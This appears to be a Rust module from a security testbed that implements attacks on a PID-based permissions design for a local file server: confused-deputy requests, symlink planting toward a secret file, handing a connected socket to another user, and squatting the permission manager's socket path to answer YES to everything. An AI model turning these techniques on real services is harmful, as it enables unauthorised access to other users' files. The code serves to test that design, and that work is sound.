//! The attacks on the permissions-by-PID design, each a bounded, single-purpose program.
//!
//! Every attack talks to fsd in a run directory, asks for something its user may not have, and
//! returns a [`Verdict`]: SUCCEEDED only when fsd actually sent file bytes. Every wait has a
//! deadline, every file or socket an attack creates is removed before it returns, and no attack
//! needs or uses root.

use std::io::{BufRead, BufReader, Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::poll::{PollFd, PollFlags, PollTimeout, poll};

use crate::client::{self, ClientError};
use crate::fdpass;
use crate::verdict::Verdict;
use crate::wire::{self, PERMD_SOCKET};

/// What every attack needs to know.
#[derive(Debug, Clone)]
pub struct Target {
    /// The run directory: fsd.sock, litterbox/ and secret.txt are in it.
    pub dir: PathBuf,
    /// When the attack gives up.
    pub deadline: Instant,
}

impl Target {
    /// fsd's socket.
    pub fn fsd(&self) -> PathBuf {
        self.dir.join(wire::FSD_SOCKET)
    }
}

fn failed(e: impl std::fmt::Display) -> Verdict {
    Verdict::Failed(e.to_string())
}

fn ask(stream: &UnixStream, name: &str) -> Verdict {
    match wire::read_request(name).map_err(ClientError::from) {
        Ok(line) => match client::request(stream, &line) {
            Ok(reply) => Verdict::from_reply(name, reply),
            Err(e) => failed(e),
        },
        Err(e) => failed(e),
    }
}

/// Wait until `fd` is readable or the deadline passes. Returns false on timeout.
fn wait_readable(fd: &impl std::os::fd::AsFd, deadline: Instant) -> bool {
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return false;
        }
        let ms = u16::try_from(left.as_millis()).unwrap_or(u16::MAX);
        let mut fds = [PollFd::new(fd.as_fd(), PollFlags::POLLIN)];
        match poll(&mut fds, PollTimeout::from(ms)) {
            Ok(0) | Err(nix::errno::Errno::EINTR) => continue,
            Ok(_) => return true,
            Err(_) => return false,
        }
    }
}

/// Attack 1, confused deputy: a reader of the litterbox names a file outside it.
pub fn confused(t: &Target, name: &str) -> Verdict {
    match client::connect_until(&t.fsd(), t.deadline) {
        Ok(s) => ask(&s, name),
        Err(e) => failed(e),
    }
}

/// Attack 1b, confused deputy through a link: plant `litterbox/<tag>.lnk -> ../secret.txt`
/// (the litterbox is the attacker's to write) and ask for the link. The link is removed
/// afterwards.
pub fn symlink(t: &Target, link_target: &str) -> Verdict {
    let tag = format!("deputy-attack-{}.lnk", std::process::id());
    let link = t.dir.join("litterbox").join(&tag);
    if let Err(e) = std::os::unix::fs::symlink(link_target, &link) {
        return failed(format!(
            "cannot make the link {}: {e} (the attacker must be able to write the litterbox)",
            link.display()
        ));
    }
    let verdict = match client::connect_until(&t.fsd(), t.deadline) {
        Ok(s) => ask(&s, &tag),
        Err(e) => failed(e),
    };
    let _ = std::fs::remove_file(&link);
    match verdict {
        Verdict::Succeeded { body, .. } => Verdict::Succeeded {
            what: format!("{tag} -> {link_target}"),
            body,
        },
        other => other,
    }
}

/// Attack 2a, stale credentials, the owner's half: connect to fsd, then hand the connected
/// socket to whoever connects to `handoff`, and keep it open until they are done. Prints a
/// `ready` line.
pub fn stale_lend(t: &Target, handoff: &Path) -> Result<String, String> {
    let conn = client::connect_until(&t.fsd(), t.deadline).map_err(|e| e.to_string())?;
    let listener = UnixListener::bind(handoff)
        .map_err(|e| format!("cannot listen on {}: {e}", handoff.display()))?;
    let cleanup = |msg: String| {
        let _ = std::fs::remove_file(handoff);
        msg
    };
    std::fs::set_permissions(handoff, std::fs::Permissions::from_mode(0o666))
        .map_err(|e| cleanup(format!("chmod {}: {e}", handoff.display())))?;
    {
        let mut out = std::io::stdout().lock();
        let _ = writeln!(
            out,
            "deputy-attack stale-lend: ready: uid {} (pid {}) connected to fsd; lending that connection at {}",
            nix::unistd::geteuid(),
            std::process::id(),
            handoff.display()
        );
        let _ = out.flush();
    }
    if !wait_readable(&listener, t.deadline) {
        return Err(cleanup(
            "nobody came for the connection before the deadline".into(),
        ));
    }
    let (peer, _) = listener
        .accept()
        .map_err(|e| cleanup(format!("accept: {e}")))?;
    let _ = std::fs::remove_file(handoff);
    fdpass::send_fd(&peer, conn.as_raw_fd()).map_err(|e| e.to_string())?;
    drop(conn);
    // Stay alive (the starter's permd looks our PID up) until the borrower hangs up.
    if wait_readable(&peer, t.deadline) {
        let _ = (&peer).read(&mut [0u8; 16]);
    }
    Ok("lent the connection and the borrower is done".into())
}

/// Attack 2b, stale credentials, the attacker's half: take the owner's connection and use it.
pub fn stale(t: &Target, handoff: &Path, name: &str) -> Verdict {
    let sock = match client::connect_until(handoff, t.deadline) {
        Ok(s) => s,
        Err(e) => return failed(e),
    };
    let conn = match fdpass::recv_fd(&sock) {
        Ok(fd) => UnixStream::from(fd),
        Err(e) => return failed(e),
    };
    if let Err(e) = conn
        .set_read_timeout(Some(client::REPLY_TIMEOUT))
        .and_then(|()| conn.set_write_timeout(Some(client::REPLY_TIMEOUT)))
    {
        return failed(e);
    }
    let verdict = ask(&conn, name);
    drop(sock);
    verdict
}

/// Attack 3, impostor manager: bind permd's well-known path first and answer YES to every
/// line, then ask fsd for `name`. Prints a `listening` line once the path is ours.
pub fn impostor(t: &Target, name: &str) -> Verdict {
    let path = t.dir.join(PERMD_SOCKET);
    let listener = match UnixListener::bind(&path) {
        Ok(l) => l,
        Err(e) => return failed(format!("cannot bind {}: {e}", path.display())),
    };
    let _ = std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666));
    {
        let mut out = std::io::stdout().lock();
        let _ = writeln!(
            out,
            "deputy-attack impostor: listening on {} as uid {}, answering YES to everything",
            path.display(),
            nix::unistd::geteuid()
        );
        let _ = out.flush();
    }
    let deadline = t.deadline;
    let server = std::thread::spawn(move || {
        let mut answered = 0u32;
        while answered < 64 && wait_readable(&listener, deadline) {
            let Ok((conn, _)) = listener.accept() else {
                break;
            };
            let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
            let mut w = &conn;
            let mut lines = BufReader::new(&conn).take(64 * 1024);
            let mut line = String::new();
            while answered < 64 && matches!(lines.read_line(&mut line), Ok(n) if n > 0) {
                answered += 1;
                if w.write_all(b"YES\n").is_err() {
                    break;
                }
                line.clear();
            }
        }
    });
    let verdict = confused(t, name);
    let _ = std::fs::remove_file(&path);
    drop(server); // detached: it ends at its deadline or with the process
    verdict
}
